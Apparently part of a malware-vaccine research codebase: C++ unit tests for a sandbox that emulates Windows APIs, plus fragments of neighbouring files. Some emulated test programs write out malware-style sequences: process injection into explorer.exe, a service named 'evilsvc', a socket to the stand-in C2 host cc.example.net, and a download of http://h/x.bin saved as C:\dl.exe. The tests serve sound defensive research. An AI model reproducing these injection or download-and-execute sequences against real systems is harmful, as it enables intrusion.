  AUTOVAC_CHECK(benign.ok());
  os::HostEnvironment machine = protected_machine;
  auto run = sandbox::RunProgram(benign.value(), machine, options,
                                 {daemon.Hook()});
  std::printf("  'BenignAppInstance' -> %s\n",
              run.stop_reason == vm::StopReason::kHalted
                  ? "created normally, app ran to completion"
                  : "interfered (!)");
  return 0;
}
