// Behavioural tests for the kernel's API surface: success/failure
// encodings per Table I, handle mapping, dataflow recording, taint
// introduction, hooks, and the virtual clock.
#include <gtest/gtest.h>

#include "sandbox/api_ids.h"
#include "sandbox/sandbox.h"
#include "support/strings.h"

namespace autovac::sandbox {
namespace {

struct Run {
  RunResult result;
  os::HostEnvironment env;
};

Run Execute(const std::string& body,
            const std::string& data_sections = "",
            const std::vector<ApiHook>& hooks = {}) {
  const std::string source =
      ".name apitest\n" + data_sections + ".text\n" + body + "  hlt\n";
  auto program = AssembleForSandbox(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString() << "\n" << source;
  Run run{RunResult{}, os::HostEnvironment::StandardMachine()};
  RunOptions options;
  options.record_instructions = true;
  run.result = RunProgram(program.value(), run.env, options, hooks);
  return run;
}

const trace::ApiCallRecord& LastCall(const Run& run,
                                     const std::string& api_name) {
  auto calls = run.result.api_trace.FindCalls(api_name);
  EXPECT_FALSE(calls.empty()) << api_name << " not called";
  static trace::ApiCallRecord empty;
  return calls.empty() ? empty : *calls.back();
}

// ---- API table sanity ------------------------------------------------

TEST(ApiTable, NamesRoundTrip) {
  for (size_t i = 0; i < kNumApis; ++i) {
    const auto id = static_cast<ApiId>(i);
    const ApiSpec& spec = GetApiSpec(id);
    EXPECT_EQ(spec.id, id);
    auto found = FindApiByName(spec.name);
    ASSERT_TRUE(found.has_value()) << spec.name;
    EXPECT_EQ(*found, id);
  }
  EXPECT_FALSE(FindApiByName("NtTotallyFake").has_value());
}

TEST(ApiTable, ResourceApisHaveIdentifierSource) {
  for (size_t i = 0; i < kNumApis; ++i) {
    const ApiSpec& spec = GetApiSpec(static_cast<ApiId>(i));
    if (!spec.is_resource_api) continue;
    // Every resource API must resolve an identifier via an argument, a
    // handle, or a kernel special case (OpenProcess / OpenSCManagerA).
    const bool special = spec.id == ApiId::kOpenProcess ||
                         spec.id == ApiId::kOpenSCManagerA;
    EXPECT_TRUE(spec.identifier_arg >= 0 || spec.handle_arg >= 0 || special)
        << spec.name;
  }
}

TEST(ApiTable, ResourceApiCount) {
  // Our labelled surface (paper hooks 89 calls; ours is the simplified
  // equivalent — keep the count pinned so accidental regressions show).
  EXPECT_EQ(CountResourceApis(), 43u);
}

// ---- file APIs ---------------------------------------------------------

TEST(FileApi, CreateDispositions) {
  auto run = Execute(R"(
  push 1            ; CREATE_NEW
  push path
  sys CreateFileA
  add esp, 8
  mov ebx, eax
  push 1            ; CREATE_NEW again -> fails
  push path
  sys CreateFileA
  add esp, 8
  mov ecx, eax
  sys GetLastError
  mov edx, eax
)", ".rdata\n  string path \"C:\\\\t.bin\"\n");
  EXPECT_TRUE(run.env.ns().FileExists("C:\\t.bin"));
  auto calls = run.result.api_trace.FindCalls("CreateFileA");
  ASSERT_EQ(calls.size(), 2u);
  EXPECT_TRUE(calls[0]->succeeded);
  EXPECT_FALSE(calls[1]->succeeded);
  EXPECT_EQ(calls[1]->result, os::kInvalidHandleValue);
  EXPECT_EQ(calls[1]->last_error, os::kErrorAlreadyExists);
}

TEST(FileApi, OpenExistingRequiresFile) {
  auto run = Execute(R"(
  push 3            ; OPEN_EXISTING
  push path
  sys CreateFileA
  add esp, 8
)", ".rdata\n  string path \"C:\\\\absent.bin\"\n");
  const auto& call = LastCall(run, "CreateFileA");
  EXPECT_FALSE(call.succeeded);
  EXPECT_EQ(call.last_error, os::kErrorFileNotFound);
}

TEST(FileApi, WriteThenReadBack) {
  auto run = Execute(R"(
  push 2
  push path
  sys CreateFileA
  add esp, 8
  mov ebx, eax
  push 5
  push payload
  push ebx
  sys WriteFile
  add esp, 12
  push ebx
  sys CloseHandle
  add esp, 4
  push 3
  push path
  sys CreateFileA
  add esp, 8
  mov ebx, eax
  push 32
  push readbuf
  push ebx
  sys ReadFile
  add esp, 12
)", ".rdata\n  string path \"C:\\\\data.bin\"\n  string payload \"hello\"\n"
    ".data\n  buffer readbuf 32\n");
  EXPECT_TRUE(LastCall(run, "ReadFile").succeeded);
  std::string content;
  ASSERT_TRUE(run.env.ns().ReadFile("C:\\data.bin", &content).ok);
  EXPECT_EQ(content, "hello");
  // ReadFile's buffer define carries environment origin + taint.
  const auto& read_call = LastCall(run, "ReadFile");
  ASSERT_FALSE(read_call.defines.empty());
  EXPECT_EQ(read_call.defines[0].origin, trace::DataOrigin::kEnvironment);
}

TEST(FileApi, ReadFileBadHandleUsesTableIError) {
  auto run = Execute(R"(
  push 16
  push buf
  push 0x9999
  sys ReadFile
  add esp, 12
)", ".data\n  buffer buf 16\n");
  const auto& call = LastCall(run, "ReadFile");
  EXPECT_FALSE(call.succeeded);
  EXPECT_EQ(call.result, os::kFalse);
  EXPECT_EQ(call.last_error, os::kErrorReadFault);  // 0x1E per Table I
}

TEST(FileApi, AttributesAndDelete) {
  auto run = Execute(R"(
  push sysini
  sys GetFileAttributesA
  add esp, 4
  mov ebx, eax
  push absent
  sys GetFileAttributesA
  add esp, 4
  mov ecx, eax
  push sysini
  sys DeleteFileA
  add esp, 4
)", ".rdata\n  string sysini \"C:\\\\Windows\\\\system.ini\"\n"
    "  string absent \"C:\\\\none.txt\"\n");
  auto attrs = run.result.api_trace.FindCalls("GetFileAttributesA");
  ASSERT_EQ(attrs.size(), 2u);
  EXPECT_TRUE(attrs[0]->succeeded);
  EXPECT_EQ(attrs[1]->result, 0xFFFFFFFFu);
  EXPECT_TRUE(LastCall(run, "DeleteFileA").succeeded);
  EXPECT_FALSE(run.env.ns().FileExists("C:\\Windows\\system.ini"));
}

TEST(FileApi, CopyAndMove) {
  auto run = Execute(R"(
  push 2
  push src
  sys CreateFileA
  add esp, 8
  mov ebx, eax
  push 3
  push body
  push ebx
  sys WriteFile
  add esp, 12
  push dst
  push src
  sys CopyFileA
  add esp, 8
  push moved
  push dst
  sys MoveFileA
  add esp, 8
)", ".rdata\n  string src \"C:\\\\a\"\n  string dst \"C:\\\\b\"\n"
    "  string moved \"C:\\\\c\"\n  string body \"xyz\"\n");
  EXPECT_TRUE(run.env.ns().FileExists("C:\\a"));
  EXPECT_FALSE(run.env.ns().FileExists("C:\\b"));  // moved away
  std::string content;
  ASSERT_TRUE(run.env.ns().ReadFile("C:\\c", &content).ok);
  EXPECT_EQ(content, "xyz");
  // CopyFileA's vaccine-relevant identifier is the destination.
  EXPECT_EQ(LastCall(run, "CopyFileA").resource_identifier, "C:\\b");
}

TEST(FileApi, TempFileIsRandomOriginAndCreated) {
  auto run = Execute(R"(
  push buf
  sys GetTempFileNameA
  add esp, 4
)", ".data\n  buffer buf 260\n");
  const auto& call = LastCall(run, "GetTempFileNameA");
  ASSERT_FALSE(call.defines.empty());
  EXPECT_EQ(call.defines[0].origin, trace::DataOrigin::kRandom);
  // The named file exists afterwards (Win32 semantics).
  bool found_temp = false;
  for (const std::string& name : run.env.ns().FileNames()) {
    found_temp |= name.find("\\Temp\\tmp") != std::string::npos;
  }
  EXPECT_TRUE(found_temp);
}

TEST(FileApi, FindFirstFileProbesExistence) {
  auto run = Execute(R"(
  push present
  sys FindFirstFileA
  add esp, 4
  mov ebx, eax
  push absent
  sys FindFirstFileA
  add esp, 4
)", ".rdata\n  string present \"C:\\\\autoexec.bat\"\n"
    "  string absent \"C:\\\\missing.bat\"\n");
  auto calls = run.result.api_trace.FindCalls("FindFirstFileA");
  EXPECT_TRUE(calls[0]->succeeded);
  EXPECT_FALSE(calls[1]->succeeded);
}

TEST(FileApi, GetFileSize) {
  auto run = Execute(R"(
  push 2
  push path
  sys CreateFileA
  add esp, 8
  mov ebx, eax
  push 4
  push body
  push ebx
  sys WriteFile
  add esp, 12
  push ebx
  sys GetFileSize
  add esp, 4
)", ".rdata\n  string path \"C:\\\\s\"\n  string body \"abcd\"\n");
  EXPECT_EQ(LastCall(run, "GetFileSize").result, 4u);
}

// ---- mutex APIs ------------------------------------------------------------

TEST(MutexApi, CreateOpenReleaseWait) {
  auto run = Execute(R"(
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  mov ebx, eax
  push 0
  push ebx
  sys WaitForSingleObject
  add esp, 8
  mov ecx, eax
  push name
  push 0
  sys OpenMutexA
  add esp, 8
  mov edx, eax
  push ebx
  sys ReleaseMutex
  add esp, 4
)", ".rdata\n  string name \"test-mtx\"\n");
  EXPECT_TRUE(LastCall(run, "CreateMutexA").succeeded);
  EXPECT_EQ(LastCall(run, "WaitForSingleObject").result, 0u);
  EXPECT_TRUE(LastCall(run, "OpenMutexA").succeeded);
  EXPECT_TRUE(LastCall(run, "ReleaseMutex").succeeded);
  EXPECT_FALSE(run.env.ns().MutexExists("test-mtx"));
}

TEST(MutexApi, OpenAbsentFailsWithTableICode) {
  auto run = Execute(R"(
  push name
  push 0
  sys OpenMutexA
  add esp, 8
)", ".rdata\n  string name \"ghost\"\n");
  const auto& call = LastCall(run, "OpenMutexA");
  EXPECT_FALSE(call.succeeded);
  EXPECT_EQ(call.result, os::kNullHandle);
  EXPECT_EQ(call.last_error, os::kErrorFileNotFound);  // 0x02
}

TEST(MutexApi, GetLastErrorIsTaintedAfterResourceCall) {
  auto run = Execute(R"(
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  sys GetLastError
  cmp eax, 183
  jz done
  nop
done:
)", ".rdata\n  string name \"dup\"\n");
  // The duplicate create sets ERROR_ALREADY_EXISTS; comparing the
  // GetLastError result is a tainted predicate attributed to the mutex.
  EXPECT_TRUE(run.result.AnyTaintedPredicate());
  auto creates = run.result.api_trace.FindCalls("CreateMutexA");
  ASSERT_EQ(creates.size(), 2u);
  EXPECT_TRUE(creates[1]->taint_reached_predicate);
}

// ---- registry APIs -----------------------------------------------------------

TEST(RegistryApi, CreateQuerySetEnumDelete) {
  auto run = Execute(R"(
  push key
  sys RegCreateKeyA
  add esp, 4
  mov ebx, eax
  push data
  push valname
  push ebx
  sys RegSetValueExA
  add esp, 12
  push 64
  push buf
  push valname
  push ebx
  sys RegQueryValueExA
  add esp, 16
  push ebx
  sys RegCloseKey
  add esp, 4
  push key
  sys RegDeleteKeyA
  add esp, 4
)", ".rdata\n  string key \"HKCU\\\\Software\\\\T\"\n"
    "  string valname \"cfg\"\n  string data \"value!\"\n"
    ".data\n  buffer buf 64\n");
  EXPECT_TRUE(LastCall(run, "RegSetValueExA").succeeded);
  EXPECT_TRUE(LastCall(run, "RegQueryValueExA").succeeded);
  EXPECT_TRUE(LastCall(run, "RegDeleteKeyA").succeeded);
  EXPECT_FALSE(run.env.ns().KeyExists("HKCU\\Software\\T"));
}

TEST(RegistryApi, QueryWritesDataToBuffer) {
  auto run = Execute(R"(
  push key
  sys RegOpenKeyA
  add esp, 4
  mov ebx, eax
  push 64
  push buf
  push valname
  push ebx
  sys RegQueryValueExA
  add esp, 16
  lea esi, [buf]
)", ".rdata\n"
    "  string key \"HKLM\\\\Software\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Winlogon\"\n"
    "  string valname \"Shell\"\n.data\n  buffer buf 64\n");
  const auto& call = LastCall(run, "RegQueryValueExA");
  EXPECT_TRUE(call.succeeded);
  // The handle maps back to the key path (Table I's handle map).
  EXPECT_NE(call.resource_identifier.find("Winlogon"), std::string::npos);
}

TEST(RegistryApi, EnumeratesChildKeys) {
  auto run = Execute(R"(
  push parent
  sys RegCreateKeyA
  add esp, 4
  push childa
  sys RegCreateKeyA
  add esp, 4
  push childb
  sys RegCreateKeyA
  add esp, 4
  push parent
  sys RegOpenKeyA
  add esp, 4
  mov ebx, eax
  push 64
  push buf
  push 0
  push ebx
  sys RegEnumKeyA
  add esp, 16
  push 64
  push buf
  push 2
  push ebx
  sys RegEnumKeyA
  add esp, 16
)", ".rdata\n  string parent \"HKCU\\\\P\"\n  string childa \"HKCU\\\\P\\\\A\"\n"
    "  string childb \"HKCU\\\\P\\\\B\"\n.data\n  buffer buf 64\n");
  auto enums = run.result.api_trace.FindCalls("RegEnumKeyA");
  ASSERT_EQ(enums.size(), 2u);
  EXPECT_TRUE(enums[0]->succeeded);
  EXPECT_FALSE(enums[1]->succeeded);  // index 2 out of range
  EXPECT_EQ(enums[1]->last_error, 259u);  // ERROR_NO_MORE_ITEMS
}

// ---- process APIs ---------------------------------------------------------------

TEST(ProcessApi, ToolhelpFindOpenInject) {
  auto run = Execute(R"(
  sys CreateToolhelp32Snapshot
  mov ebx, eax
  push target
  push ebx
  sys Process32FindA
  add esp, 8
  mov ecx, eax
  push ecx
  push 0x1F
  sys OpenProcess
  add esp, 8
  mov edx, eax
  push 32
  push payload
  push edx
  sys WriteProcessMemory
  add esp, 12
  push payload
  push edx
  sys CreateRemoteThread
  add esp, 8
)", ".rdata\n  string target \"explorer.exe\"\n  string payload \"hook\"\n");
  EXPECT_TRUE(LastCall(run, "Process32FindA").succeeded);
  EXPECT_TRUE(LastCall(run, "WriteProcessMemory").succeeded);
  EXPECT_TRUE(LastCall(run, "CreateRemoteThread").succeeded);
  // OpenProcess resolves the pid to its image name.
  EXPECT_EQ(LastCall(run, "OpenProcess").resource_identifier, "explorer.exe");
  const os::ProcessObject* explorer =
      run.env.ns().FindProcessByName("explorer.exe");
  ASSERT_NE(explorer, nullptr);
  ASSERT_EQ(explorer->injected_payloads.size(), 2u);
  EXPECT_EQ(explorer->injected_payloads[0], "hook");
}

TEST(ProcessApi, ExitProcessStopsRun) {
  auto run = Execute(R"(
  push 0
  sys ExitProcess
  mov eax, 999
)");
  EXPECT_EQ(run.result.stop_reason, vm::StopReason::kExited);
  EXPECT_FALSE(run.result.api_trace.calls.empty());
}

TEST(ProcessApi, TerminateSelfViaPseudoHandle) {
  auto run = Execute(R"(
  sys GetCurrentProcess
  push eax
  sys TerminateProcess
  add esp, 4
)");
  EXPECT_EQ(run.result.stop_reason, vm::StopReason::kExited);
}

TEST(ProcessApi, CreateProcessNeedsImageFile) {
  auto run = Execute(R"(
  push real
  sys CreateProcessA
  add esp, 4
  mov ebx, eax
  push fake
  sys CreateProcessA
  add esp, 4
)", ".rdata\n  string real \"C:\\\\Windows\\\\system32\\\\svchost.exe\"\n"
    "  string fake \"C:\\\\nothere.exe\"\n");
  auto calls = run.result.api_trace.FindCalls("CreateProcessA");
  EXPECT_TRUE(calls[0]->succeeded);
  EXPECT_FALSE(calls[1]->succeeded);
}

TEST(ProcessApi, GetCurrentProcessId) {
  auto run = Execute("  sys GetCurrentProcessId\n");
  EXPECT_GE(LastCall(run, "GetCurrentProcessId").result, 1000u);
}

// ---- service APIs ---------------------------------------------------------------

TEST(ServiceApi, CreateStartDelete) {
  auto run = Execute(R"(
  sys OpenSCManagerA
  mov ebx, eax
  push binpath
  push svcname
  push ebx
  sys CreateServiceA
  add esp, 12
  mov ecx, eax
  push ecx
  sys StartServiceA
  add esp, 4
  push ecx
  sys DeleteService
  add esp, 4
  push ebx
  sys CloseServiceHandle
  add esp, 4
)", ".rdata\n  string svcname \"evilsvc\"\n"
    "  string binpath \"C:\\\\evil.sys\"\n");
  EXPECT_TRUE(LastCall(run, "CreateServiceA").succeeded);
  EXPECT_TRUE(LastCall(run, "StartServiceA").succeeded);
  EXPECT_TRUE(LastCall(run, "DeleteService").succeeded);
  // The binary path parameter is recorded for Type-I classification.
  EXPECT_EQ(LastCall(run, "CreateServiceA").params[2], "\"C:\\evil.sys\"");
}

TEST(ServiceApi, CreateServiceRequiresScmHandle) {
  auto run = Execute(R"(
  push binpath
  push svcname
  push 0x1234
  sys CreateServiceA
  add esp, 12
)", ".rdata\n  string svcname \"x\"\n  string binpath \"C:\\\\x.exe\"\n");
  EXPECT_FALSE(LastCall(run, "CreateServiceA").succeeded);
}

// ---- window APIs ------------------------------------------------------------------

TEST(WindowApi, RegisterCreateFindShow) {
  auto run = Execute(R"(
  push cls
  sys RegisterClassA
  add esp, 4
  push title
  push cls
  sys CreateWindowExA
  add esp, 8
  mov ebx, eax
  push 1
  push ebx
  sys ShowWindow
  add esp, 8
  push empty
  push cls
  sys FindWindowA
  add esp, 8
)", ".rdata\n  string cls \"EvilWnd\"\n  string title \"Ad\"\n"
    "  string empty \"\"\n");
  EXPECT_TRUE(LastCall(run, "RegisterClassA").succeeded);
  EXPECT_TRUE(LastCall(run, "CreateWindowExA").succeeded);
  EXPECT_TRUE(LastCall(run, "ShowWindow").succeeded);
  EXPECT_TRUE(LastCall(run, "FindWindowA").succeeded);
}

TEST(WindowApi, FindWindowIdentifierFallsBackToTitle) {
  auto run = Execute(R"(
  push title
  push empty
  sys FindWindowA
  add esp, 8
)", ".rdata\n  string empty \"\"\n  string title \"SomeTitle\"\n");
  EXPECT_EQ(LastCall(run, "FindWindowA").resource_identifier, "SomeTitle");
}

// ---- library APIs -----------------------------------------------------------------

TEST(LibraryApi, LoadAndGetProc) {
  auto run = Execute(R"(
  push dll
  sys LoadLibraryA
  add esp, 4
  mov ebx, eax
  push proc
  push ebx
  sys GetProcAddress
  add esp, 8
  mov ecx, eax
  push ebx
  sys FreeLibrary
  add esp, 4
  push missing
  sys LoadLibraryA
  add esp, 4
)", ".rdata\n  string dll \"uxtheme.dll\"\n  string proc \"ThemeInit\"\n"
    "  string missing \"nota.dll\"\n");
  EXPECT_TRUE(LastCall(run, "GetProcAddress").succeeded);
  auto loads = run.result.api_trace.FindCalls("LoadLibraryA");
  EXPECT_TRUE(loads[0]->succeeded);
  EXPECT_FALSE(loads[1]->succeeded);
  EXPECT_EQ(loads[1]->last_error, os::kErrorModNotFound);
}

TEST(LibraryApi, GetModuleHandleSeesLoadedAndPreinstalled) {
  auto run = Execute(R"(
  push dll
  sys GetModuleHandleA
  add esp, 4
  mov ebx, eax
  push absent
  sys GetModuleHandleA
  add esp, 4
)", ".rdata\n  string dll \"kernel32.dll\"\n  string absent \"no.dll\"\n");
  auto calls = run.result.api_trace.FindCalls("GetModuleHandleA");
  EXPECT_TRUE(calls[0]->succeeded);
  EXPECT_FALSE(calls[1]->succeeded);
}

// ---- system information -------------------------------------------------------------

TEST(SysInfoApi, EnvironmentValuesAndOrigins) {
  auto run = Execute(R"(
  push 64
  push buf
  sys GetComputerNameA
  add esp, 8
  push 64
  push buf2
  sys GetUserNameA
  add esp, 8
  sys GetVolumeInformationA
  mov ebx, eax
  sys GetVersion
  mov ecx, eax
)", ".data\n  buffer buf 64\n  buffer buf2 64\n");
  for (const char* api : {"GetComputerNameA", "GetUserNameA"}) {
    const auto& call = LastCall(run, api);
    ASSERT_FALSE(call.defines.empty()) << api;
    EXPECT_EQ(call.defines[0].origin, trace::DataOrigin::kEnvironment);
  }
  EXPECT_EQ(LastCall(run, "GetVolumeInformationA").result,
            run.env.profile().volume_serial);
  EXPECT_EQ(LastCall(run, "GetVersion").result, 0x0501u);
}

TEST(SysInfoApi, DirectoriesMatchProfile) {
  auto run = Execute(R"(
  push 64
  push buf
  sys GetSystemDirectoryA
  add esp, 8
  push 64
  push buf
  sys GetWindowsDirectoryA
  add esp, 8
  push 64
  push buf
  sys GetTempPathA
  add esp, 8
)", ".data\n  buffer buf 64\n");
  EXPECT_TRUE(LastCall(run, "GetTempPathA").succeeded);
}

TEST(SysInfoApi, RandomSources) {
  auto run = Execute(R"(
  sys GetTickCount
  mov ebx, eax
  push buf
  sys QueryPerformanceCounter
  add esp, 4
  push buf
  sys GetSystemTime
  add esp, 4
  sys rand
  mov ecx, eax
)", ".data\n  buffer buf 16\n");
  EXPECT_EQ(LastCall(run, "QueryPerformanceCounter").defines[0].origin,
            trace::DataOrigin::kRandom);
  EXPECT_EQ(LastCall(run, "GetSystemTime").defines[0].origin,
            trace::DataOrigin::kRandom);
  EXPECT_LE(LastCall(run, "rand").result, 0x7FFFu);
}

TEST(SysInfoApi, SleepAdvancesVirtualTime) {
  auto run = Execute(R"(
  sys GetTickCount
  mov ebx, eax
  push 5000
  sys Sleep
  add esp, 4
)");
  // 5000 ms at 100 cycles/ms dominates the cycle count.
  EXPECT_GE(run.result.cycles_used, 500000u);
}

TEST(SysInfoApi, SetAndGetLastError) {
  auto run = Execute(R"(
  push 1234
  sys SetLastError
  add esp, 4
  sys GetLastError
)");
  EXPECT_EQ(LastCall(run, "GetLastError").result, 1234u);
}

TEST(SysInfoApi, GetCommandLineReturnsStablePointer) {
  auto run = Execute(R"(
  sys GetCommandLineA
  mov ebx, eax
  sys GetCommandLineA
  mov ecx, eax
)");
  auto calls = run.result.api_trace.FindCalls("GetCommandLineA");
  EXPECT_EQ(calls[0]->result, calls[1]->result);
}

// ---- network APIs ------------------------------------------------------------------

TEST(NetworkApi, SocketLifecycle) {
  auto run = Execute(R"(
  sys WSAStartup
  sys socket
  mov ebx, eax
  push 80
  push host
  push ebx
  sys connect
  add esp, 12
  push 4
  push data
  push ebx
  sys send
  add esp, 12
  push 32
  push buf
  push ebx
  sys recv
  add esp, 12
  push ebx
  sys closesocket
  add esp, 4
)", ".rdata\n  string host \"cc.example.net\"\n  string data \"PING\"\n"
    ".data\n  buffer buf 32\n");
  EXPECT_TRUE(LastCall(run, "connect").succeeded);
  EXPECT_EQ(LastCall(run, "send").result, 4u);
  EXPECT_GT(LastCall(run, "recv").result, 0u);
  EXPECT_EQ(LastCall(run, "recv").defines[0].origin,
            trace::DataOrigin::kRandom);
}

TEST(NetworkApi, HttpStackAndDownload) {
  auto run = Execute(R"(
  push agent
  sys InternetOpenA
  add esp, 4
  mov esi, eax
  push 80
  push host
  push esi
  sys InternetConnectA
  add esp, 12
  mov ebx, eax
  push pathh
  push ebx
  sys HttpOpenRequestA
  add esp, 8
  mov ecx, eax
  push ecx
  sys HttpSendRequestA
  add esp, 4
  push 64
  push buf
  push ecx
  sys InternetReadFile
  add esp, 12
  push dest
  push url
  sys URLDownloadToFileA
  add esp, 8
)", ".rdata\n  string agent \"UA\"\n  string host \"h.example\"\n"
    "  string pathh \"/p\"\n  string url \"http://h/x.bin\"\n"
    "  string dest \"C:\\\\dl.exe\"\n.data\n  buffer buf 64\n");
  EXPECT_TRUE(LastCall(run, "HttpSendRequestA").succeeded);
  EXPECT_TRUE(LastCall(run, "URLDownloadToFileA").succeeded);
  EXPECT_TRUE(run.env.ns().FileExists("C:\\dl.exe"));
  // URLDownloadToFileA is a file-create resource API keyed on the dest.
  EXPECT_EQ(LastCall(run, "URLDownloadToFileA").resource_identifier,
            "C:\\dl.exe");
}

// ---- string helpers ------------------------------------------------------------------

TEST(StringApi, CopyCatLen) {
  auto run = Execute(R"(
  push src
  push buf
  sys lstrcpyA
  add esp, 8
  push suffix
  push buf
  sys lstrcatA
  add esp, 8
  push buf
  sys lstrlenA
  add esp, 4
)", ".rdata\n  string src \"abc\"\n  string suffix \"def\"\n"
    ".data\n  buffer buf 32\n");
  EXPECT_EQ(LastCall(run, "lstrlenA").result, 6u);
  // Flows recorded for both copies.
  EXPECT_EQ(LastCall(run, "lstrcpyA").flows.size(), 1u);
  EXPECT_EQ(LastCall(run, "lstrcatA").flows.size(), 1u);
}

TEST(StringApi, CompareVariants) {
  auto run = Execute(R"(
  push b
  push a
  sys lstrcmpA
  add esp, 8
  mov ebx, eax
  push b
  push a
  sys lstrcmpiA
  add esp, 8
)", ".rdata\n  string a \"Mutex\"\n  string b \"mutex\"\n");
  EXPECT_NE(LastCall(run, "lstrcmpA").result, 0u);   // case differs
  EXPECT_EQ(LastCall(run, "lstrcmpiA").result, 0u);  // case-insensitive
}

TEST(StringApi, WsprintfConversions) {
  auto run = Execute(R"(
  push 0xAB
  push 42
  push name
  push fmt
  push buf
  sys wsprintfA
  add esp, 20
  lea esi, [buf]
)", ".rdata\n  string fmt \"%s-%d-%x!\"\n  string name \"id\"\n"
    ".data\n  buffer buf 64\n");
  const auto& call = LastCall(run, "wsprintfA");
  EXPECT_TRUE(call.succeeded);
  EXPECT_EQ(call.result, 9u);  // "id-42-ab!"
  EXPECT_EQ(call.stack_args_used, 5u);
  // Flows: literal chunks + three conversions.
  EXPECT_GE(call.flows.size(), 4u);
}

TEST(StringApi, WsprintfOutputBytes) {
  auto run = Execute(R"(
  push 7
  push fmt
  push buf
  sys wsprintfA
  add esp, 12
  push buf
  sys lstrlenA
  add esp, 4
)", ".rdata\n  string fmt \"v=%u\"\n.data\n  buffer buf 32\n");
  EXPECT_EQ(LastCall(run, "lstrlenA").result, 3u);  // "v=7"
}

TEST(StringApi, ItoaAndCrc) {
  auto run = Execute(R"(
  push 16
  push buf
  push 0xBEEF
  sys _itoa
  add esp, 12
  push buf
  sys lstrlenA
  add esp, 4
  mov ebx, eax
  push 4
  push data
  push 0
  sys RtlComputeCrc32
  add esp, 12
)", ".rdata\n  string data \"abcd\"\n.data\n  buffer buf 32\n");
  EXPECT_EQ(LastCall(run, "lstrlenA").result, 4u);  // "beef"
  // CRC-32 of "abcd" has a well-known value.
  EXPECT_EQ(LastCall(run, "RtlComputeCrc32").result, 0xED82CD11u);
}

TEST(StringApi, CharCaseConversionInPlace) {
  auto run = Execute(R"(
  push src
  push buf
  sys lstrcpyA
  add esp, 8
  push buf
  sys CharUpperA
  add esp, 4
)", ".rdata\n  string src \"MiXeD\"\n.data\n  buffer buf 32\n");
  EXPECT_FALSE(LastCall(run, "CharUpperA").flows.empty());
}

// ---- misc ---------------------------------------------------------------------------

TEST(MiscApi, VirtualAllocBumpsHeap) {
  auto run = Execute(R"(
  push 64
  sys VirtualAlloc
  add esp, 4
  mov ebx, eax
  push 64
  sys VirtualAlloc
  add esp, 4
)");
  auto allocs = run.result.api_trace.FindCalls("VirtualAlloc");
  ASSERT_EQ(allocs.size(), 2u);
  EXPECT_GE(allocs[0]->result, vm::kHeapBase);
  EXPECT_GE(allocs[1]->result, allocs[0]->result + 64);
}

TEST(MiscApi, WinExecStripsArguments) {
  auto run = Execute(R"(
  push cmd
  sys WinExec
  add esp, 4
)", ".rdata\n  string cmd \"C:\\\\Windows\\\\explorer.exe /select\"\n");
  EXPECT_EQ(LastCall(run, "WinExec").result, 33u);
}

TEST(MiscApi, SrandSeedsRand) {
  auto run = Execute(R"(
  push 7
  sys srand
  add esp, 4
  sys rand
  mov ebx, eax
  push 7
  sys srand
  add esp, 4
  sys rand
)");
  auto rands = run.result.api_trace.FindCalls("rand");
  ASSERT_EQ(rands.size(), 2u);
  EXPECT_EQ(rands[0]->result, rands[1]->result);
}

TEST(MiscApi, UnknownApiIdFailsGracefully) {
  auto run = Execute("  sys 9999\n");
  EXPECT_EQ(run.result.stop_reason, vm::StopReason::kHalted);
  EXPECT_TRUE(run.result.api_trace.calls.empty());
}

// ---- calling context -------------------------------------------------------------------

TEST(CallingContext, CallStackRecorded) {
  auto run = Execute(R"(
  call wrapper
  jmp fin
wrapper:
  push name
  push 0
  sys OpenMutexA
  add esp, 8
  ret
fin:
)", ".rdata\n  string name \"ctx\"\n");
  const auto& call = LastCall(run, "OpenMutexA");
  ASSERT_EQ(call.call_stack.size(), 1u);  // one frame: the wrapper's caller
  EXPECT_GT(call.caller_pc, 0u);
}

// ---- hooks --------------------------------------------------------------------------------

TEST(Hooks, FirstMatchingHookWins) {
  std::vector<ApiHook> hooks;
  hooks.push_back([](const ApiObservation& obs)
                      -> std::optional<ForcedOutcome> {
    if (obs.spec->id != ApiId::kOpenMutexA) return std::nullopt;
    return ForcedOutcome{true, 0, std::nullopt};
  });
  hooks.push_back([](const ApiObservation&) -> std::optional<ForcedOutcome> {
    return ForcedOutcome{false, 999, std::nullopt};  // would fail everything
  });
  auto run = Execute(R"(
  push name
  push 0
  sys OpenMutexA
  add esp, 8
)", ".rdata\n  string name \"ghost\"\n", hooks);
  const auto& call = LastCall(run, "OpenMutexA");
  EXPECT_TRUE(call.succeeded);  // forced despite the mutex not existing
  EXPECT_TRUE(call.was_forced);
  EXPECT_NE(call.result, os::kNullHandle);  // fabricated handle
}

TEST(Hooks, ForcedSuccessHandleIsUsable) {
  std::vector<ApiHook> hooks;
  hooks.push_back([](const ApiObservation& obs)
                      -> std::optional<ForcedOutcome> {
    if (obs.spec->id != ApiId::kCreateFileA) return std::nullopt;
    return ForcedOutcome{true, 0, std::nullopt};
  });
  // Reading from a fabricated file handle succeeds with empty content.
  auto run = Execute(R"(
  push 3
  push path
  sys CreateFileA
  add esp, 8
  mov ebx, eax
  push 16
  push buf
  push ebx
  sys ReadFile
  add esp, 12
)", ".rdata\n  string path \"C:\\\\fake\"\n.data\n  buffer buf 16\n", hooks);
  EXPECT_TRUE(LastCall(run, "ReadFile").succeeded);
  EXPECT_FALSE(run.env.ns().FileExists("C:\\fake"));  // never really made
}

TEST(Hooks, ExplicitEaxOverrides) {
  std::vector<ApiHook> hooks;
  hooks.push_back([](const ApiObservation& obs)
                      -> std::optional<ForcedOutcome> {
    if (obs.spec->id != ApiId::kGetTickCount) return std::nullopt;
    ForcedOutcome outcome;
    outcome.success = true;
    outcome.eax = 0x12345678;
    return outcome;
  });
  auto run = Execute("  sys GetTickCount\n", "", hooks);
  EXPECT_EQ(LastCall(run, "GetTickCount").result, 0x12345678u);
}

}  // namespace
}  // namespace autovac::sandbox
