// VaccineStore coverage: content-address dedup, feed epochs, conflict
// quarantine, durable JSONL persistence (reload equality, torn-tail
// repair, mid-file corruption refusal, quarantine folding). Scratch
// files live under the build directory with per-test names, like the
// campaign durability tests.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/exclusiveness.h"
#include "vaccine/json.h"
#include "vacstore/store.h"

namespace autovac::vacstore {
namespace {

class ScratchFile {
 public:
